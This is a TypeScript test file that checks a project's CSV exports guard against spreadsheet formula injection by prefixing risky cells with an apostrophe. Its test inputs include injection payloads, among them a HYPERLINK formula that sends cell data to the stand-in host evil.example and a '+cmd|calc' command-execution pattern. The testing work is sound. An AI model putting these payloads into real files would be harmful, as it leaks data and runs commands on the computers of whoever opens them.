/**
 * CSV files people open in a spreadsheet (account reports, safe copies) never carry a cell a
 * spreadsheet would run as a formula (OWASP "CSV Injection"), and numbers stay numbers.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { anonymiseFile } from '../src/anonymise/index.js';
import { accountReportCsv, type AccountReport } from '../src/accounts/index.js';
import { spreadsheetSafeField, splitCsvLine } from '../src/data/csv.js';

describe('spreadsheetSafeField', () => {
  it('prefixes text that starts like a formula with an apostrophe, quoting as needed', () => {
    expect(spreadsheetSafeField('=1+1')).toBe("'=1+1");
    expect(spreadsheetSafeField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(spreadsheetSafeField('+cmd|calc')).toBe("'+cmd|calc");
    expect(spreadsheetSafeField('-2+3')).toBe("'-2+3");
    expect(spreadsheetSafeField('\tx')).toBe("'\tx");
    expect(spreadsheetSafeField('=HYPERLINK("http://evil.example/?"&A2,"details")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A2,""details"")"`,
    );
  });

  it('leaves numbers, negative ones too, and ordinary text as quoteCsvField does', () => {
    for (const v of ['-12.5', '+3', '-1e-7', '.5', '42', 'C1042', 'large amount; new merchant', 'a,b'])
      expect(spreadsheetSafeField(v)).toBe(v.includes(',') ? `"${v}"` : v);
  });
});

describe('accountReportCsv', () => {
  it('writes an account id or a feature name that looks like a formula as text', () => {
    const report: AccountReport = {
      detector: 'iforest',
      contamination: 0.01,
      featureNames: ['=cmd', 'tx_count'],
      rows: [
        {
          account: '=HYPERLINK("http://evil.example/?"&A2,"details")',
          features: [1, 2],
          score: 0.5,
          flagged: true,
          reasons: [],
          explanation: '-look here',
        },
      ],
      threshold: 0.4,
      flagged: 1,
      transactions: 2,
      notes: [],
    };
    const [header, row] = accountReportCsv(report).trim().split('\n');
    const fields: string[] = [];
    splitCsvLine(header!, fields);
    expect(fields.slice(0, 3)).toEqual(['account', "'=cmd", 'tx_count']);
    const n = splitCsvLine(row!, fields);
    const cells = fields.slice(0, n);
    expect(cells[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A2,"details")`);
    expect(cells.at(-1)).toBe("'-look here");
    expect(cells.every((c) => !/^[=+\-@\t\r]/.test(c) || /^-?\d/.test(c))).toBe(true);
  });
});

describe('anonymiseFile (the safe copy)', () => {
  it('writes a kept text column that starts like a formula as text', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'finsecure-csv-safe-'));
    try {
      const input = path.join(dir, 'tx.csv');
      const output = path.join(dir, 'safe.csv');
      writeFileSync(
        input,
        [
          'transaction_id,amount,merchant',
          'T1,12.50,"=HYPERLINK(""http://evil.example/?""&A2,""details"")"',
          'T2,-3.25,@SUM(A1)',
          'T3,7,Grocer',
        ].join('\n') + '\n',
      );
      await anonymiseFile({
        input,
        output,
        key: Buffer.alloc(32, 7),
        mapping: { columns: { merchant: 'keep' } },
      });
      const lines = readFileSync(output, 'utf8').trim().split('\n');
      const fields: string[] = [];
      const merchants = lines.slice(1).map((l) => fields.slice(0, splitCsvLine(l, fields)).at(-1));
      expect(merchants).toEqual([`'=HYPERLINK("http://evil.example/?"&A2,"details")`, "'@SUM(A1)", 'Grocer']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
